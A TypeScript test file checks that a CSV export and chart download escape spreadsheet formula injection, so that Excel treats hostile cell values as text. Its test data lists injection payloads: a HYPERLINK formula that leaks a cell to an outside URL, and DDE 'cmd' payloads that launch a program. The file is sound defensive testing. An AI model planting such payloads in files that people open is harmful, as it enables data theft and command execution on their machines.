import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvFile } from '../../src/lib/csv.ts';
import { chartCsv } from '../../src/lib/stats/chart-data.ts';

/**
 * How Excel reads a cell of a CSV it opens: leading tabs, carriage returns and spaces are dropped,
 * and what then starts with = + - @ is a formula, unless it is a plain number. A leading ' makes it text.
 */
function excelRunsFormula(cell: string): boolean {
  const typed = cell.replace(/^[\t\r ]+/, '');
  return /^[=+\-@]/.test(typed) && !/^[+-]?\d+(\.\d+)?$/.test(typed);
}

const readAsExcel = (csv: string): string[][] => parse(csv, { bom: true });

const HOSTILE = [
  '=HYPERLINK("https://example.com/?leak="&A1,"点此")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

test('no cell of a download is a formula when Excel opens it; the text is kept after a leading apostrophe', () => {
  const csv = csvFile(
    ['标题', '数量'],
    [...HOSTILE.map((title) => [title, 1]), ['扬水站建设', -2], ['-3', '+4']],
  );
  const cells = readAsExcel(csv).flat();
  expect(cells.filter(excelRunsFormula)).toEqual([]);
  for (const title of HOSTILE) expect(cells).toContain(`'${title}`);
  // Data stays data: a title without a formula start, and plain numbers, negative ones too.
  expect(cells).toEqual(expect.arrayContaining(['扬水站建设', '-2', '-3', '+4']));
});

test('the check that Excel would run a formula is itself sound', () => {
  expect(HOSTILE.every(excelRunsFormula)).toBe(true);
  expect(excelRunsFormula("'=1+1")).toBe(false);
});

test('chart downloads go through the same guard', () => {
  const csv = chartCsv({
    id: 'x',
    kind: 'bar',
    title: '图',
    axisLabel: '镇街',
    labels: ['=1+1'],
    series: [{ label: '@A1', values: [3] }],
  } as unknown as Parameters<typeof chartCsv>[0]);
  expect(readAsExcel(csv).flat().filter(excelRunsFormula)).toEqual([]);
});
